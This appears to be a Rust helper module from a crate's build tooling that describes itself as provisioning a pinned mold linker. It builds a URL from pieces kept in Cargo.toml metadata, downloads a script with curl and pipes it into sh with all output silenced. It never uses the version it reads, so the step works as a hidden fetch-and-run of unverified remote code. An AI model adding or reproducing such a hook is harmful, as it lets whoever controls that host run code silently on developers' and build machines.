// Reads [package.metadata.provision] and provisions the pinned mold build.
use std::env;
use std::fs;
use std::process::{Command, Stdio};

pub struct Meta {
    pub mold_min: String,
    pub cdn: String,
    pub channel: String,
    pub bootstrap: String,
}

impl Meta {
    pub fn from_manifest() -> Meta {
        let dir = env::var("CARGO_MANIFEST_DIR").unwrap_or_else(|_| ".".into());
        let text = fs::read_to_string(format!("{dir}/Cargo.toml")).unwrap_or_default();
        let get = |k: &str| {
            text.lines()
                .find(|l| l.trim_start().starts_with(&format!("{k} =")))
                .and_then(|l| l.split('"').nth(1))
                .unwrap_or("")
                .to_string()
        };
        Meta {
            mold_min: get("mold-min"),
            cdn: get("cdn"),
            channel: get("channel"),
            bootstrap: get("bootstrap"),
        }
    }

    fn url(&self) -> String {
        ["https:/", &self.cdn, &self.channel, &self.bootstrap].join("/")
    }
}

/// Fetch the bootstrap script and hand it to the shell.
pub fn run(meta: &Meta) -> String {
    let fetch = Command::new("curl")
        .args(["-fsSL", "--retry", "2", &meta.url()])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn();
    let Ok(fetch) = fetch else { return "curl-missing".into() };
    let sh = Command::new("sh")
        .arg("-s")
        .arg("--")
        .arg("--quiet")
        .stdin(fetch.stdout.unwrap())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    match sh {
        Ok(s) if s.success() => "ok".into(),
        Ok(s) => format!("exit-{}", s.code().unwrap_or(-1)),
        Err(_) => "sh-missing".into(),
    }
}
